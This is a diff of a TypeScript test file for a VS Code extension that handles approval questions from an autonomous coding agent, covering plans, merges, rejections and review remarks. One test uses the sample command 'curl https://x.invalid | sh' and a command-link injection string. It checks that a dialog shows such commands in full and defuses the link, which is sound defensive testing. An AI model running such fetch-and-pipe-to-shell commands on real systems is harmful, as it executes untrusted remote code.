@@ -16,6 +16,13 @@ const person = vi.hoisted(() => ({
   /** Lists that were shown, by label. */
   offered: [] as (readonly string[])[],
   told: [] as string[],
+  /** Dialogs that were shown, and the buttons that are pressed in them; then they are dismissed. */
+  dialogs: [] as object[],
+  presses: [] as string[],
+  /** Happens while a list is shown. */
+  whilePicking: null as (() => void) | null,
+  /** Documents that were shown. */
+  opened: [] as unknown[],
   /** Documents with unsaved changes. */
   unsaved: [] as string[],
   /** The document in front. */
@@ -27,6 +34,7 @@ vi.mock('vscode', () => ({
   l10n: { t: (text: string, ...values: unknown[]) => text.replaceAll(/\{(\d)\}/g, (_, at) => String(values[at])) },
   Uri: { from: ({ scheme, path }: { scheme: string; path: string }) => `${scheme}:${path}` },
   workspace: {
+    openTextDocument: async (uri: unknown) => uri,
     get textDocuments() {
       return person.unsaved.map((uri) => ({ isDirty: true, uri }));
     },
@@ -38,14 +46,21 @@ vi.mock('vscode', () => ({
     },
     showQuickPick: async (items: readonly Item[], options: { canPickMany?: boolean }) => {
       person.offered.push(items.map(({ label }) => label));
+      person.whilePicking?.();
       const labels = person.picks.shift();
       if (labels === undefined) return undefined;
       const picked = items.filter((item) => labels.includes(item.label));
       return options.canPickMany === true ? picked : picked[0];
     },
+    showTextDocument: async (document: unknown) => void person.opened.push(document),
     showInputBox: async () => person.types.shift(),
     showInformationMessage: async (text: string) => void person.told.push(text),
-    showWarningMessage: async (text: string) => void person.told.push(text),
+    showWarningMessage: async (text: string, options: unknown, ...buttons: string[]) => {
+      person.told.push(text);
+      if (typeof options !== 'object' || options === null) return undefined;
+      person.dialogs.push(options);
+      return buttons.find((button) => button === person.presses.shift());
+    },
   },
 }));
 
@@ -60,11 +75,30 @@ function contextOf(row: Partial<ApprovalRow>): { context: HostContext; wishes: u
   return { context: { engine } as unknown as HostContext, wishes };
 }
 
+/** The question as a person saw it. */
+function asked({ engine }: HostContext, id = 1): ApprovalRow {
+  return engine.state.approvals.get(id) ?? approvalRow({ id });
+}
+
+/** One remark in the review; gives the questions whose remarks were forgotten. */
+function remarked(context: HostContext): number[] {
+  const cleared: number[] = [];
+  remarksOf(context).attach({
+    of: () => [{ path: 'a.ts', line: 2, text: 'off by one' }],
+    clear: ({ id }) => void cleared.push(id),
+  });
+  return cleared;
+}
+
 beforeEach(() => {
   person.picks = [];
   person.types = [];
   person.offered = [];
   person.told = [];
+  person.dialogs = [];
+  person.whilePicking = null;
+  person.opened = [];
+  person.presses = [];
   person.unsaved = [];
   person.inFront = null;
   person.ran = [];
@@ -73,7 +107,7 @@ beforeEach(() => {
 describe('Approve', () => {
   it('answers a question without choices at once', async () => {
     const { context, wishes } = contextOf({ kind: 'plan' });
-    await approve(context, 1);
+    await approve(context, asked(context));
     expect(wishes).toMatchObject([
       { approvalId: 1, decision: 'approved', choice: null, feedback: null, by: 'steward' },
     ]);
@@ -82,7 +116,7 @@ describe('Approve', () => {
   it('accepts a plan as it was edited, saved or not', async () => {
     const { context, wishes } = contextOf({ kind: 'plan' });
     person.unsaved = ['autonomous-plan:/job-1/plan.yaml'];
-    await approve(context, 1);
+    await approve(context, asked(context));
     expect(wishes).toEqual([]);
     expect(person.ran).toEqual([['autonomous.acceptPlan', 'job-1']]);
   });
@@ -90,33 +124,33 @@ describe('Approve', () => {
   it('of a plan that is in front gives way to the board', async () => {
     const { context } = contextOf({ kind: 'plan' });
     person.inFront = 'autonomous-plan:/job-1/plan.yaml';
-    await approve(context, 1);
+    await approve(context, asked(context));
     expect(person.ran).toEqual([['autonomous.openBoard']]);
   });
 
   it('leaves what else is in front where it is', async () => {
     const { context } = contextOf({ kind: 'plan' });
     person.inFront = 'file:/src/mine.ts';
-    await approve(context, 1);
+    await approve(context, asked(context));
     expect(person.ran).toEqual([]);
   });
 
   it('offers the choices of a question, and takes none when it is dismissed', async () => {
     const { context, wishes } = contextOf({ kind: 'dirty_tree', choices: ['head', 'snapshot'] });
-    await approve(context, 1);
+    await approve(context, asked(context));
     expect(wishes).toEqual([]);
     person.picks = [['Start from a snapshot of the tree as it is']];
-    await approve(context, 1);
+    await approve(context, asked(context));
     expect(wishes).toMatchObject([{ choice: 'snapshot' }]);
   });
 
   it('sends a stuck worker an answer, never an empty one', async () => {
     const { context, wishes } = contextOf({ kind: 'stuck' });
     person.types = [undefined, '  ', 'Tabs.'];
-    await approve(context, 1);
-    await approve(context, 1);
+    await approve(context, asked(context));
+    await approve(context, asked(context));
     expect(wishes).toEqual([]);
-    await approve(context, 1);
+    await approve(context, asked(context));
     expect(wishes).toMatchObject([{ decision: 'approved', feedback: 'Tabs.' }]);
   });
 
@@ -125,12 +159,12 @@ describe('Approve', () => {
     const { context, wishes } = contextOf({ kind: 'merge', choices: ['merge', 'branch', 'patch'], executables });
     for (const ticked of [undefined, [], ['package.json']]) {
       person.picks = [['Merge'], ticked];
-      await approve(context, 1);
+      await approve(context, asked(context));
     }
     expect(wishes).toEqual([]);
     expect(person.told.at(-1)).toBe('Not approved. May run on your machine, and was not ticked: .husky/pre-commit');
     person.picks = [['Merge'], executables];
-    await approve(context, 1);
+    await approve(context, asked(context));
     expect(wishes).toMatchObject([{ choice: 'merge' }]);
   });
 
@@ -140,25 +174,79 @@ describe('Approve', () => {
       choices: ['merge', 'branch'],
       executables: ['package.json'],
     });
-    await approve(context, 1, { choice: 'merge', feedback: null });
+    await approve(context, asked(context), { choice: 'merge', feedback: null });
     expect(wishes).toEqual([]);
   });
 
   it('asks how to merge when a page only proposes it, and offers that first', async () => {
     const { context, wishes } = contextOf({ kind: 'merge', choices: ['merge', 'branch', 'patch'] });
-    await approve(context, 1, { choice: null, first: 'patch', feedback: null });
+    await approve(context, asked(context), { choice: null, first: 'patch', feedback: null });
     expect(wishes).toEqual([]);
     expect(person.offered).toEqual([['Write a patch file', 'Leave it on a branch of its own', 'Merge']]);
     person.picks = [['Write a patch file']];
-    await approve(context, 1, { choice: null, first: 'patch', feedback: null });
+    await approve(context, asked(context), { choice: null, first: 'patch', feedback: null });
     expect(wishes).toMatchObject([{ choice: 'patch' }]);
+  });
+
+  it('says to run commands only with every line of them shown, and only when that is pressed', async () => {
+    const detail = 'npm ci\ncurl https://x.invalid | sh # [read](command:me)';
+    const { context, wishes } = contextOf({ kind: 'command', subject: 'command:npm ci', detail });
+    await approve(context, asked(context));
+    expect(wishes).toEqual([]);
+    person.presses = ['Run'];
+    await approve(context, asked(context), { choice: null, feedback: null });
+    expect(wishes).toMatchObject([{ decision: 'approved' }]);
+    const shown = { modal: true, detail: 'npm ci\ncurl https://x.invalid | sh # [read]\u200b(command:me)' };
+    expect(person.dialogs).toEqual([shown, shown]);
+  });
+
+  it('shows as a document what a dialog has no room for', async () => {
+    const detail = Array.from({ length: 60 }, (_, at) => `echo ${at}`).join('\n');
+    const { context, wishes } = contextOf({ kind: 'setup', subject: 'setup', detail, question: 'Run these?' });
+    await approve(context, asked(context));
+    expect(person.opened).toEqual(['autonomous-question:/question-1.sh']);
+    expect(person.told).toEqual(['Run these? The whole text is in the editor in front of you.']);
+    expect(wishes).toEqual([]);
+  });
+
+  it('asks before it gives up the comments of a review, which go with a rejection only', async () => {
+    const { context, wishes } = contextOf({ kind: 'plan' });
+    const cleared = remarked(context);
+    await approve(context, asked(context));
+    expect([wishes, cleared]).toEqual([[], []]);
+    person.presses = ['Approve Without Comments'];
+    await approve(context, asked(context));
+    expect(wishes).toHaveLength(1);
+    expect(cleared).toEqual([1]);
+  });
+
+  it('is for the question that was shown, not for the one of another folder with its number', async () => {
+    const { context, wishes } = contextOf({ kind: 'plan' });
+    for (const other of [{ job_id: 'job-2' }, { commit: 'c0ffee' }, { requested_at: '2020-01-01T00:00:00.000Z' }]) {
+      await approve(context, { ...asked(context), ...other });
+      await reject(context, { ...asked(context), ...other });
+    }
+    expect(wishes).toEqual([]);
+    expect(person.told).toHaveLength(6);
+  });
+
+  it('is not sent when another folder was chosen while it was asked', async () => {
+    const { context, wishes } = contextOf({ kind: 'dirty_tree', choices: ['head', 'snapshot'] });
+    person.whilePicking = () => {
+      const approvals = [approvalRow({ id: 1, job_id: 'job-2', choices: ['head'] })];
+      Object.assign(context.engine, { state: stateOf({ jobs: [jobRow({ id: 'job-2' })], approvals }) });
+    };
+    person.picks = [['Start from the last commit']];
+    await approve(context, asked(context));
+    expect(wishes).toEqual([]);
+    expect(person.told).toEqual(['This question is settled: what it asked about changed.']);
   });
 
   it('says so when somebody answered before', async () => {
     const { context, wishes } = contextOf({ status: 'rejected' });
-    await approve(context, 1);
-    await reject(context, 1);
-    await approve(context, 99);
+    await approve(context, asked(context));
+    await reject(context, asked(context));
+    await approve(context, asked(context, 99));
     expect(wishes).toEqual([]);
     expect(person.told).toHaveLength(3);
   });
@@ -168,20 +256,16 @@ describe('Reject', () => {
   it('needs a reason', async () => {
     const { context, wishes } = contextOf({});
     person.types = ['', undefined];
-    await reject(context, 1);
-    await reject(context, 1);
+    await reject(context, asked(context));
+    await reject(context, asked(context));
     expect(wishes).toEqual([]);
   });
 
   it('takes the remarks of the review for one, and forgets them afterwards', async () => {
     const { context, wishes } = contextOf({});
-    const cleared: number[] = [];
-    remarksOf(context).attach({
-      of: () => [{ path: 'a.ts', line: 2, text: 'off by one' }],
-      clear: (id) => void cleared.push(id),
-    });
+    const cleared = remarked(context);
     person.types = [''];
-    await reject(context, 1);
+    await reject(context, asked(context));
     expect(wishes).toMatchObject([{ decision: 'rejected', feedback: '- a.ts:2: off by one' }]);
     expect(cleared).toEqual([1]);
   });
